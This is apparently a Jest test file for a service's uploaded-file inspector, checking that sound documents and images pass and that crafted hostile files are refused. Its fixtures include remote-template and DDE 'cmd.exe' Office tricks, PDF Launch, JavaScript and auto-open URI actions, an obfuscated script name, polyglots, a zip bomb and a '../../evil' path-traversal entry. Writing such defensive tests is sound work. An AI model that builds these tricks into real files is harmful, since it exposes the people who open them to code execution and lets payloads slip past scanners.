import { PDFDocument, PDFName, type PDFObject, PDFString } from '@cantoo/pdf-lib';
import { claimedType } from '@diwan/service-kit/files/file-name';
import { inspectFile } from '@diwan/service-kit/files/inspect-file';
import { describe, expect, it } from '@jest/globals';
import sharp from 'sharp';
import {
  EICAR,
  encryptedPdf,
  sampleDocx,
  sampleJpeg,
  samplePdf,
  samplePng,
  sampleWebp,
  sampleXlsx,
} from '../../test/sample-files.js';
import { zip } from '../../test/zip.js';

const inspect = (name: string, bytes: Buffer) => inspectFile(bytes, claimedType(name));

describe('the check of an uploaded file', () => {
  it.each([
    ['a.pdf', () => samplePdf()],
    ['a.docx', async () => sampleDocx()],
    ['a.xlsx', async () => sampleXlsx()],
    [
      'linked.docx',
      async () => sampleDocx({ 'word/_rels/document.xml.rels': relation('hyperlink', 'https://example.com/') }),
    ],
  ])('accepts a sound %s and keeps it as it is', async (name, sample) => {
    await expect(inspect(name, await sample())).resolves.toBe('as-is');
  });

  it.each([
    ['a.png', () => samplePng()],
    ['a.jpg', () => sampleJpeg()],
    ['a.webp', () => sampleWebp()],
  ])('M3: keeps of %s its pixels and nothing else', async (name, sample) => {
    const bytes = Buffer.concat([await sample(), Buffer.from('<script>alert(1)</script>')]);
    const kept = Buffer.from(await inspect(name, bytes));
    expect(await sharp(kept).metadata()).toMatchObject({ width: 300, height: 200 });
    expect(kept.includes('<script>')).toBe(false);
    expect(kept.includes('Secret Photographer')).toBe(false);
  });

  it('M3: a PDF that opens at one of its pages and links to an address is sound', async () => {
    const bytes = await pdfWith((pdf) => {
      const page = pdf.getPage(0);
      pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.obj([page.ref, 'Fit']));
      page.node.set(PDFName.of('AA'), pdf.context.obj({ O: { S: 'Named', N: 'FirstPage' } }));
      const link = {
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [0, 0, 9, 9],
        A: { S: 'URI', URI: PDFString.of('https://a.example') },
      };
      page.node.set(PDFName.of('Annots'), pdf.context.obj([link]));
    });
    await expect(inspect('a.pdf', bytes)).resolves.toBe('as-is');
  });

  const gif = Buffer.from('GIF89a/*\x01\x00\x01\x00*/=1;alert(1)', 'latin1');
  const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');

  it.each<[string, string, () => Promise<Buffer> | Buffer, RegExp]>([
    ['a program renamed', 'x.pdf', () => Buffer.from('MZ\x90\x00 this program'), /not what the name says/],
    ['html renamed', 'x.pdf', () => Buffer.from('<!doctype html><script>alert(1)</script>'), /not what the name says/],
    ['svg renamed', 'x.png', () => svg, /not what the name says/],
    ['a GIF polyglot', 'x.png', () => gif, /not what the name says/],
    ['a png renamed', 'x.jpg', () => samplePng(), /not what the name says/],
    ['a docx renamed', 'x.xlsx', () => sampleDocx(), /not what the name says/],
    ['an empty file', 'x.pdf', () => Buffer.alloc(0), /empty/],
    ['the EICAR file', 'x.pdf', () => Buffer.from(EICAR), /test virus/],
    ['EICAR behind a PDF', 'x.pdf', async () => Buffer.concat([await samplePdf(1), Buffer.from(EICAR)]), /test virus/],
    ['EICAR packed in a docx', 'x.docx', () => sampleDocx({ 'word/media/a.bin': EICAR }), /test virus/],
    ['a PDF with a password', 'x.pdf', () => encryptedPdf(), /password/],
    ['a cut PDF', 'x.pdf', async () => (await samplePdf()).subarray(0, 60), /damaged|no pages/],
    ['a cut png', 'x.png', async () => (await samplePng()).subarray(0, 90), /damaged/],
    ['a png of 16000 x 16000 pixels', 'x.png', () => samplePng(16_000, 16_000), /40 million/],
    ['a zip that is no office file', 'x.docx', () => plainZip(), /not what the name says/],
    ['a docx with macros', 'x.docx', () => sampleDocx({ 'word/vbaProject.bin': 'x' }), /macros/],
    [
      'a docx that holds a zip',
      'x.docx',
      () => sampleDocx({ 'word/embeddings/a.bin': sampleXlsx() }),
      /another archive/,
    ],
    ['a docx with 1,001 parts', 'x.docx', () => manyParts(), /more than 1000 parts/],
    ['a zip bomb', 'x.docx', () => sampleDocx({ 'word/bomb.xml': Buffer.alloc(60_000_000) }), /far more than its size/],
    [
      'a docx that loads a template',
      'x.docx',
      () => sampleDocx({ 'word/_rels/settings.xml.rels': TEMPLATE }),
      /loads something from elsewhere/,
    ],
    [
      'a template in UTF-16',
      'x.docx',
      () => sampleDocx({ 'word/_rels/settings.xml.rels': utf16(TEMPLATE) }),
      /from elsewhere/,
    ],
    [
      'an XML part that says another encoding',
      'x.docx',
      () => sampleDocx({ 'word/a.xml': '<?xml version="1.0" encoding="utf-7"?><a/>' }),
      /damaged/,
    ],
    [
      'an XML part with entities',
      'x.docx',
      () => sampleDocx({ 'word/a.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }),
      /damaged/,
    ],
    [
      'a linked picture',
      'x.docx',
      () => sampleDocx({ 'word/_rels/document.xml.rels': relation('image', 'http://evil.example/a.png') }),
      /from elsewhere/,
    ],
    [
      'a link to a share',
      'x.docx',
      () => sampleDocx({ 'word/_rels/document.xml.rels': relation('hyperlink', 'file://evil/a') }),
      /from elsewhere/,
    ],
    [
      'a linked object',
      'x.docx',
      () => sampleDocx({ 'word/_rels/document.xml.rels': relation('oleObject', 'http://evil.example/a') }),
      /another file inside/,
    ],
    ['macros under another name', 'x.docx', () => sampleDocx({ 'word/media/image1.png': OLE }), /macros/],
    ['a program inside', 'x.docx', () => sampleDocx({ 'word/media/image1.png': 'MZ this program' }), /a program or/],
    ['a field that runs a program', 'x.docx', () => sampleDocx({ 'word/document.xml': DDE }), /from elsewhere/],
    [
      'macros by their content type',
      'x.docx',
      () => sampleDocx({ '[Content_Types].xml': MACRO_TYPE }),
      /not what the name says|macros/,
    ],
    ['a PDF that runs a script', 'x.pdf', () => pdfWith((pdf) => pdf.addJavaScript('a', 'app.alert(1)')), /scripts/],
    ['a PDF that starts a program', 'x.pdf', () => opening({ S: 'Launch', F: PDFString.of('cmd.exe') }), /scripts/],
    [
      'a PDF that sends a form',
      'x.pdf',
      () => opening({ S: 'SubmitForm', F: PDFString.of('https://a.example') }),
      /scripts/,
    ],
    ['S-7: a PDF that opens an address', 'x.pdf', () => opening({ S: 'URI', URI: ADDRESS }), /scripts/],
    [
      'S-7: a PDF that opens an address after turning to a page',
      'x.pdf',
      () =>
        pdfWith((pdf) =>
          openingAfter(pdf, pdf.context.obj({ S: 'GoTo', D: [0, 'Fit'], Next: [{ S: 'URI', URI: ADDRESS }] })),
        ),
      /scripts/,
    ],
    [
      'S-7: a PDF that opens an address by a reference, in an order that has no end',
      'x.pdf',
      () => pdfWith((pdf) => openingAfter(pdf, endless(pdf))),
      /scripts/,
    ],
    [
      'S-7: a page that opens an address when it is seen',
      'x.pdf',
      () =>
        pdfWith((pdf) => pdf.getPage(0).node.set(PDFName.of('AA'), pdf.context.obj({ O: { S: 'URI', URI: ADDRESS } }))),
      /scripts/,
    ],
    [
      'S-7: a field that opens an address when a page is seen',
      'x.pdf',
      () =>
        pdfWith((pdf) => {
          const field = {
            Type: 'Annot',
            Subtype: 'Widget',
            Rect: [0, 0, 9, 9],
            AA: { PV: { S: 'URI', URI: ADDRESS } },
          };
          pdf.getPage(0).node.set(PDFName.of('Annots'), pdf.context.obj([field]));
        }),
      /scripts/,
    ],
    ['a PDF with a file inside', 'x.pdf', () => pdfWith((pdf) => pdf.attach(Buffer.from('a'), 'a.exe')), /scripts/],
    [
      'a PDF with an XFA form',
      'x.pdf',
      () => pdfWith((pdf) => pdf.catalog.set(PDFName.of('AcroForm'), pdf.context.obj({ XFA: PDFString.of('a') }))),
      /scripts/,
    ],
    ['a script under a number', 'x.pdf', async () => withLine(await samplePdf(1), '/J#61vaScript'), /scripts/],
    [
      'a PDF behind something else',
      'x.pdf',
      async () => Buffer.concat([Buffer.from('x'), await samplePdf(1)]),
      /not what the name says|begin/,
    ],
    [
      'a PDF with something behind',
      'x.pdf',
      async () => Buffer.concat([await samplePdf(1), Buffer.from('<script>')]),
      /behind its end/,
    ],
    [
      'a PDF that is an archive too',
      'x.pdf',
      async () => Buffer.concat([await samplePdf(1), plainZip(), Buffer.from('%%EOF')]),
      /archive/,
    ],
    ['a docx with a name that leaves its folder', 'x.docx', () => sampleDocx({ '../../evil': 'x' }), /unsafe name/],
  ])('D-086: refuses %s', async (_what, name, sample, detail) => {
    await expect(inspect(name, await sample())).rejects.toMatchObject({
      code: 'FILE_REFUSED',
      detail: expect.stringMatching(detail),
    });
  });
});

const ADDRESS = PDFString.of('https://a.example');

const openingAfter = (pdf: PDFDocument, action: PDFObject) =>
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(action));

/** An action that is followed by itself. */
function endless(pdf: PDFDocument): PDFObject {
  const action = pdf.context.obj({ S: 'GoTo', D: [0, 'Fit'] });
  action.set(PDFName.of('Next'), pdf.context.register(action));
  return action;
}

const TEMPLATE =
  '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>';

const relation = (type: string, target: string): string =>
  `<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;

const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');
const OLE = Buffer.from('d0cf11e0a1b11ae10000', 'hex');
const DDE =
  '<w:document><w:p><w:r><w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO c:\\\\cmd.exe</w:instrText></w:r></w:p></w:document>';
const MACRO_TYPE =
  '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>';

async function pdfWith(change: (pdf: PDFDocument) => unknown): Promise<Buffer> {
  const pdf = await PDFDocument.load(await samplePdf(1));
  await change(pdf);
  return Buffer.from(await pdf.save());
}

const opening = (action: Record<string, string | PDFString>): Promise<Buffer> =>
  pdfWith((pdf) => pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.obj(action)));

/** Behind the head of the file, where no reader of objects looks. */
const withLine = (pdf: Buffer, line: string): Buffer =>
  Buffer.from(pdf.toString('latin1').replace('\n', `\n% ${line} \n`), 'latin1');

const plainZip = (): Buffer => zip({ 'a.txt': 'a' });

const manyParts = (): Buffer =>
  sampleDocx(Object.fromEntries(Array.from({ length: 1000 }, (_, index) => [`word/p${index}.xml`, 'x'])));
